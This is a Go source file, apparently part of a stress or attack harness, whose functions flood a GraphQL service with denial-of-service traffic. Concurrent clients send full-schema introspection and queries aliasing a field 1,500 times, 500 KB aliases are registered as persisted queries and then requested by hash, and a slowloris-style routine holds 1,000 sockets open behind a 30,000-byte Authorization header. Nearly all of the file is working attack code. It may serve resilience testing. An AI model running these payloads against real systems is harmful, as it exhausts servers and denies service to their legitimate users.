package attack

import (
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"strings"
)

// every asks for all of the schema, as tools do.
const every = `{ __schema { types { kind name description fields(includeDeprecated: true) { name description args { ...V } type { ...T } }
	inputFields { ...V } interfaces { ...T } enumValues(includeDeprecated: true) { name description } possibleTypes { ...T } } } }
	fragment V on __InputValue { name description type { ...T } defaultValue }
	fragment T on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }`

// schemaAgain asks for all of the schema as nobody, and every other client for each field of each type under 1,500 names.
func schemaAgain(ctx context.Context, p *party) {
	var names strings.Builder
	for n := range 1500 {
		fmt.Fprintf(&names, " a%d: name", n)
	}
	all := p.request("", "", operation(every, nil))
	deep := p.request("", "", operation(`{ __schema { types { fields { type { ofType { fields {`+names.String()+` } } } } } } }`, nil))
	p.crowd(ctx, 8, func(client, _ int) []byte {
		if client%2 == 0 {
			return all
		}
		return deep
	})
}

// longNames teaches documents with a name of 500 KB, and then asks for them by their hash.
func longNames(ctx context.Context, p *party) {
	name := strings.Repeat("x", mib/2)
	pages := learned(`query($c: ID!) { carpeta(id: $c) { documentos(first: 100) { nodes { ` + name + `: titulo } } } }`)
	fields := learned(`{ __schema { types { fields { ` + name + `: name } } } }`)
	p.crowd(ctx, 8, func(client, n int) []byte {
		c, asked := p.citizen(client), pages
		if client%2 == 0 {
			asked = fields
		}
		return p.request(c.Token, "", asked(map[string]any{"c": c.CarpetaID}, n%16 == 0))
	})
}

// learned makes requests for a document by its hash, with its text or without.
func learned(text string) func(variables any, whole bool) []byte {
	id := fmt.Sprintf("%x", sha256.Sum256([]byte(text)))
	return func(variables any, whole bool) []byte {
		all := map[string]any{"variables": variables, "extensions": map[string]any{"persistedQuery": map[string]any{"version": 1, "sha256Hash": id}}}
		if whole {
			all["query"] = text
		}
		b, err := json.Marshal(all)
		if err != nil {
			panic(err) // strings and numbers only
		}
		return b
	}
}

// silentHeaders opens sockets with a long header, and says nothing.
func silentHeaders(ctx context.Context, p *party) {
	text := fmt.Sprintf(hello, p.host)
	text = strings.TrimSuffix(text, "\r\n") + "Authorization: Bearer " + strings.Repeat("x", 30_000) + "\r\n\r\n"
	p.stalled(ctx, 1000, p.dial, []byte(text))
}
